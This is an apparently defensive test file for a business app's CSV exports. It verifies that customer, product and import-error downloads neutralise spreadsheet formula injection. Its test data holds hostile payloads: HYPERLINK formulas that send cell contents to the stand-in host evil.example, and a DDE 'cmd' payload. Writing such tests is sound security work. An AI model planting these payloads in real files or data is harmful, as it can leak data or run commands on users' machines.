import { test } from '@japa/runner'
import { parse } from 'csv-parse/sync'
import testUtils from '@adonisjs/core/services/test_utils'
import CatalogImport from '#catalog/models/catalog_import'
import { tenantContext } from '#tenancy/tenant_context'
import { createCompany } from '#tests/helpers/accounts'
import { createCustomer, createProduct } from '#tests/helpers/catalog'

/** The cells of a CSV download, header first, as a spreadsheet would read them. */
function cells(text: string): string[][] {
  return parse(text.replace(/^\uFEFF/, ''), { relax_column_count: true })
}

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Ver")',
  '+SUM(1,2)',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
]

test.group('Security: CSV exports neutralise formulas', (group) => {
  group.each.setup(() => testUtils.db().withGlobalTransaction())

  test('customers: every formula-like cell starts with a quote', async ({ client, assert }) => {
    const { tenant, user } = await createCompany('OWNER')
    for (const [index, formula] of FORMULAS.entries()) {
      await createCustomer(tenant, {
        legalName: `${formula} ${index}`.trimEnd(),
        tradeName: formula,
        address: formula,
        notes: formula,
      })
    }
    const response = await client.get('/app/customers/export/csv?status=all').loginAs(user)
    response.assertStatus(200)
    const [header, ...rows] = cells(response.text())
    assert.lengthOf(rows, FORMULAS.length)
    const column = (name: string) => header.indexOf(name)
    for (const row of rows) {
      for (const name of ['Razón social', 'Nombre comercial', 'Dirección', 'Notas']) {
        const cell = row[column(name)]
        assert.isTrue(cell.startsWith("'"), `${name}: ${JSON.stringify(cell)}`)
        assert.notMatch(cell, /^[=+\-@\t\r]/)
      }
    }
  })

  test('products: text cells neutralised, numbers kept as numbers', async ({ client, assert }) => {
    const { tenant, user } = await createCompany('OWNER')
    await createProduct(tenant, {
      code: '=A1',
      description: '@SUM(A1:A9)',
      unit: '+u',
      unitPrice: '12.5',
      trackStock: true,
      stock: '-5',
    })
    const response = await client.get('/app/products/export/csv').loginAs(user)
    const [header, row] = cells(response.text())
    const value = (name: string) => row[header.indexOf(name)]
    assert.equal(value('Código'), "'=A1")
    assert.equal(value('Descripción'), "'@SUM(A1:A9)")
    assert.equal(value('Unidad'), "'+u")
    assert.equal(value('Precio unitario'), '12.50')
    assert.equal(value('Stock'), '-5')
  })

  test("the import's error report neutralises the cells it quotes", async ({ client, assert }) => {
    const { tenant, user } = await createCompany('OWNER')
    const record = await tenantContext.run(tenant, () =>
      CatalogImport.create({
        kind: 'customers',
        status: 'completed',
        fileName: 'clientes.csv',
        encoding: 'utf-8',
        delimiter: ',',
        content: Buffer.from('x'),
        headers: [],
        errors: [
          { line: 2, field: 'legalName', message: '=HYPERLINK("http://evil.example")' },
          { line: 3, field: null, message: '-1+1' },
        ],
      } as Partial<CatalogImport>)
    )
    const response = await client.get(`/app/imports/${record.id}/errors`).loginAs(user)
    response.assertStatus(200)
    const [, first, second] = cells(response.text())
    assert.deepEqual(first, ['2', 'Razón social', `'=HYPERLINK("http://evil.example")`])
    assert.deepEqual(second, ['3', '', "'-1+1"])
  })
})
